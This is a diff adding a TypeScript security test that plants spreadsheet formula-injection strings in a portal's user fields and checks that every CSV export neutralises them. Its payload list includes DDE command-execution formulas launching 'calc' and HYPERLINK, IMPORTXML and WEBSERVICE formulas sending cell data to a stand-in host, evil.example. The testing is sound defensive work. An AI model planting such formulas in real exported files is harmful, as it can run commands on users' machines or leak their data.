@@ -1,0 +1,90 @@
+import { figure } from "#torture/each.ts";
+import type { Finding, PortalRow, Size } from "#torture/row.ts";
+import { adopt } from "#torture/support/adopt.ts";
+import { plant } from "#torture/support/matrix/plant.ts";
+import { makeWorld } from "#torture/support/matrix/world.ts";
+import { elsewhere } from "#torture/support/portal.ts";
+import { readCsv } from "#torture/support/read-csv.ts";
+import { appRoutes, fill } from "#torture/support/routes.ts";
+
+const PAYLOADS: Readonly<Record<Size, number>> = { sample: 20, first: 200, long: 400 };
+const UNKNOWN = "019ab000-0000-7000-8000-000000000000";
+const BEGINNINGS = [
+  "=",
+  "+",
+  "-",
+  "@",
+  "\t=",
+  "\r=",
+  "\n=",
+  " =",
+  "\uFF1D",
+  "\uFF0B",
+  "\uFF0D",
+  "\uFF20",
+  '"=',
+  "';=",
+  ";=",
+  "\uFEFF=",
+];
+const FORMULAS = [
+  "cmd|'/c calc'!A0",
+  'HYPERLINK("http://evil.example?x="&A1,"cliquez")',
+  "1+1",
+  "SUM(A1:A9)",
+  'IMPORTXML("http://evil.example","//a")',
+  'DDE("cmd";"/c calc";"x")',
+  'WEBSERVICE("http://evil.example")',
+];
+
+/** Formulas in everything that people type, and every file of the portal that a spreadsheet opens: no cell may be one. */
+export const t22: PortalRow = {
+  id: "T-22",
+  title: "formulas in exported files",
+  needs: "portal",
+  async run(size, portal): Promise<Finding> {
+    adopt(portal);
+    let planted = 0;
+    const next = () => {
+      const text = `${BEGINNINGS[planted % BEGINNINGS.length]}${FORMULAS[planted % FORMULAS.length]}`;
+      planted += 1;
+      return text;
+    };
+    const tally = { files: 0, cells: 0, kept: 0, live: [] as string[] };
+    const handlers = appRoutes().filter(({ kind }) => kind === "handler");
+    while (planted < PAYLOADS[size]) {
+      const world = await makeWorld(portal);
+      await plant(world, next);
+      for (const role of ["main", "recipient", "support"] as const) {
+        for (const { pattern } of handlers) {
+          const path = fill(pattern, world.own, UNKNOWN);
+          const reply = await fetch(`${portal.origin}${path}`, {
+            redirect: "manual",
+            headers: { cookie: world.cookies[role], ...elsewhere() },
+          });
+          const type = reply.headers.get("content-type") ?? "";
+          const text = await reply.text();
+          if (!reply.ok || !type.startsWith("text/csv")) continue;
+          tally.files += 1;
+          for (const cell of readCsv(text).flat()) {
+            tally.cells += 1;
+            if (cell.startsWith("'")) tally.kept += 1;
+            if (isLive(cell)) tally.live.push(`${cell} in ${pattern}`);
+          }
+        }
+      }
+    }
+    return {
+      size: `${figure(planted)} formulas typed; ${tally.files} files with ${figure(tally.cells)} cells`,
+      found: `${tally.live.length} live${tally.live[0] ? `: ${tally.live.slice(0, 3).join("; ")}` : ""}; ${figure(tally.kept)} made text by an apostrophe`,
+      pass: tally.live.length === 0 && tally.files > 0 && tally.kept > 0,
+    };
+  },
+};
+
+/** What a spreadsheet would compute: a number is none, whatever its sign. */
+function isLive(cell: string): boolean {
+  const text = cell.replace(/^[\s\uFEFF]+/, "");
+  if (/^[+-]?\d[\d\s.,\u00a0\u202f]*$/.test(text)) return false;
+  return /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(text);
+}
